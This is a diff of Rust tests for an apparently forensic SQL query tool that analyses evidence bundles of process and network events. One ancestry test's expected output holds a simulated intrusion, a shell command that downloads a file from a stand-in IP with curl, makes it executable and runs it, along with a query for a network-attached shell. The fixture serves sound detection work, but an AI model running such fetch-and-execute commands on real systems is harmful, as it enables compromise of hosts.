@@ -9,13 +9,13 @@ use taffrail_query::{Format, QueryError, Session, Style};
 use taffrail_trace::schema::TABLES;
 
 #[test]
-fn every_table_has_the_columns_of_its_schema_and_its_bundle() {
+fn every_table_has_the_columns_of_its_schema_and_its_bundle_and_host() {
     let (_dir, session) = incident();
     for table in TABLES {
         let batches = wait(session.sql(&format!("SELECT * FROM {}", table.name))).expect(table.name);
         let schema = batches[0].schema();
         let mut expected: Vec<&str> = table.all_columns().map(|column| column.name).collect();
-        expected.push("bundle");
+        expected.extend(["bundle", "host"]);
         assert_eq!(schema.fields().iter().map(|field| field.name().as_str()).collect::<Vec<_>>(), expected);
         for (column, field) in table.all_columns().zip(schema.fields()) {
             assert_eq!(*field.data_type(), column.kind.data_type(), "{}.{}", table.name, column.name);
@@ -128,8 +128,11 @@ fn tables_and_columns_can_be_asked_for() {
     assert!(rows(&session, "DESCRIBE process").iter().any(|row| row.starts_with("exec_id | UInt64")));
     assert!(!rows(&session, "EXPLAIN SELECT 1").is_empty());
     let relations = wait(session.relations()).expect("relations");
-    assert_eq!(relations.len(), 30);
+    assert_eq!(relations.len(), TABLES.len() + 1 + taffrail_query::VIEWS.len());
     for relation in relations {
+        let silent: Vec<&str> =
+            relation.columns.iter().filter(|column| column.doc.is_empty()).map(|column| column.name.as_str()).collect();
+        assert!(silent.is_empty(), "{}: {silent:?}", relation.name);
         assert!(!relation.doc.is_empty() && relation.columns.len() > 5, "{relation:?}");
     }
 }
@@ -160,4 +163,89 @@ fn a_query_beyond_the_memory_limit_is_an_error() {
     let problem = problem(&session, greedy);
     assert!(matches!(problem, QueryError::Memory(_)), "{problem:?}");
     assert_eq!(rows(&session, "SELECT 1"), ["1"]);
+}
+
+#[test]
+fn a_damaged_bundle_is_named_and_left_out_and_the_others_answer() {
+    let (dir, first) = incident();
+    let intact = first.bundles()[0].path().to_owned();
+    let (cut, foreign) = (dir.path().join("cut.evidence.zip"), dir.path().join("foreign.evidence.zip"));
+    let bytes = fs::read(&intact).expect("bytes");
+    fs::write(&cut, &bytes[..bytes.len() / 2]).expect("written");
+    let member = first.bundles()[0].members()["events/file.parquet"];
+    let mut altered = bytes.clone();
+    altered[(member.offset + member.len - 40) as usize..][..30].fill(0xff);
+    fs::write(&foreign, altered).expect("written");
+    let paths = [cut.clone(), intact.clone(), foreign.clone()];
+    let (session, left_out) = wait(Session::open_readable(&paths)).expect("a session");
+    assert_eq!(session.bundles().len(), 1);
+    assert_eq!(rows(&session, "SELECT DISTINCT bundle, host FROM process"), ["0badcafe | quay"]);
+    let named: Vec<String> = left_out.iter().map(ToString::to_string).collect();
+    assert!(named[0].contains("cut.evidence.zip") && named[1].contains("foreign.evidence.zip"), "{named:?}");
+    let problem = wait(Session::open_readable(&[cut, foreign])).expect_err("both are damaged");
+    assert!(problem.to_string().contains("cut.evidence.zip"), "{problem}");
+}
+
+#[test]
+fn damage_inside_one_of_several_bundles_says_which_one_it_is() {
+    let (dir, first) = incident();
+    let intact = first.bundles()[0].path().to_owned();
+    let bad = dir.path().join("bad.evidence.zip");
+    let mut bytes = fs::read(&intact).expect("bytes");
+    let member = first.bundles()[0].members()["events/process.parquet"];
+    bytes[member.offset as usize + 4..][..2000].fill(0);
+    fs::write(&bad, bytes).expect("written");
+    let (session, left_out) = wait(Session::open_readable(&[intact, bad])).expect("a session");
+    assert!(left_out.is_empty(), "its footers can be read");
+    let problem = problem(&session, "SELECT * FROM process").to_string();
+    assert!(problem.contains("bad.evidence.zip") && !problem.contains("0badcafe"), "{problem}");
+}
+
+#[test]
+fn what_an_image_came_of_and_what_came_of_it_are_tables() {
+    let (_dir, session) = incident();
+    let id = &rows(&session, "SELECT exec_id FROM process WHERE cmdline = '/tmp/.x' AND origin = 'exec'")[0];
+    let above = format!("SELECT distance, relation, cmdline FROM ancestors({id}) WHERE origin <> 'fork'");
+    let expected = "\
+0 | itself | /tmp/.x
+2 | parent | sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x'
+4 | parent | httpd -f -p 8080
+6 | parent | sh /entrypoint.sh
+8 | parent | dockerd -H fd://
+9 | parent | /sbin/init";
+    assert_eq!(rows(&session, &above).join("\n"), expected);
+    let shell = "SELECT exec_id FROM process WHERE comm = 'sh' AND stdin LIKE 'inet%' AND origin = 'exec'";
+    let shell = &rows(&session, shell)[0];
+    let below =
+        format!("SELECT cmdline FROM descendants('{shell}') WHERE origin = 'exec' AND distance > 0 AND pid < 5015");
+    let expected =
+        ["curl -so /tmp/.part http://198.51.100.7/x", "mv /tmp/.part /tmp/.x", "chmod 755 /tmp/.x", "/tmp/.x"];
+    assert_eq!(rows(&session, &below), expected);
+    let same = format!("SELECT count(*) FROM ancestry WHERE exec_id = {id}");
+    assert_eq!(rows(&session, &same), rows(&session, &format!("SELECT count(*) FROM ancestors({id})")));
+    assert!(problem(&session, "SELECT * FROM ancestors('nobody')").to_string().contains("exec_id"));
+}
+
+#[test]
+fn functions_of_ours_say_what_their_page_says() {
+    let (_dir, session) = incident();
+    let one = |sql: &str| rows(&session, &format!("SELECT {sql}")).join("");
+    assert_eq!(one("in_cidr('10.1.2.3', '10.0.0.0/8'), in_cidr('::ffff:10.1.2.3', '10.0.0.0/8')"), "true | true");
+    assert_eq!(one("in_cidr('192.0.2.1', '10.0.0.0/8'), in_cidr('web', '10.0.0.0/8')"), "false | null");
+    assert_eq!(one("basename('/usr/bin/nc'), dirname('/usr/bin/nc'), entropy('aabb')"), "nc | /usr/bin | 1.0");
+    assert!(
+        problem(&session, "SELECT in_cidr(remote_addr, '10.0.0.0/99') FROM network")
+            .to_string()
+            .contains("10.0.0.0/99")
+    );
+    let near = "SELECT DISTINCT comm FROM process WHERE around(time, '2026-03-14T09:00:10.3Z', 1) AND origin = 'exec' ORDER BY 1";
+    let plain = "SELECT DISTINCT comm FROM process WHERE time BETWEEN TIMESTAMP '2026-03-14T09:00:09.3Z' \
+                 AND TIMESTAMP '2026-03-14T09:00:11.3Z' AND origin = 'exec' ORDER BY 1";
+    assert_eq!(rows(&session, near), rows(&session, plain));
+    let trigger = "SELECT count(*) > 0 FROM process WHERE around(time, (SELECT trigger_time FROM bundle), 1)";
+    assert_eq!(rows(&session, trigger), ["true"]);
+    let by_row = "SELECT count(*) FROM process WHERE around(time, time, CAST(pid AS BIGINT) - pid)";
+    assert_eq!(rows(&session, by_row), rows(&session, "SELECT count(*) FROM process"));
+    let bucket = "SELECT time_bucket(INTERVAL '10 seconds', time) FROM process WHERE comm = 'curl' AND origin = 'exec'";
+    assert_eq!(rows(&session, bucket), ["2026-03-14T09:00:10.000000000Z"]);
 }
